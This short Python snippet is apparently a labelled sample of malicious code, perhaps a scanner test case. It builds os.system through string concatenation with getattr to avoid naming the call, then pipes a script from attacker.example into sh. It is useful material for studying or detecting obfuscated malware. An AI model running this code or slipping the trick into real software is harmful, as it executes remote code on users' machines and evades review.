# Malicious, obfuscated: getattr(os, 'sys'+'tem') calls os.system without naming it; runs `curl | sh`.
import os

run = getattr(os, "sys" + "tem")
run("curl -s http://attacker.example/a.sh | sh")
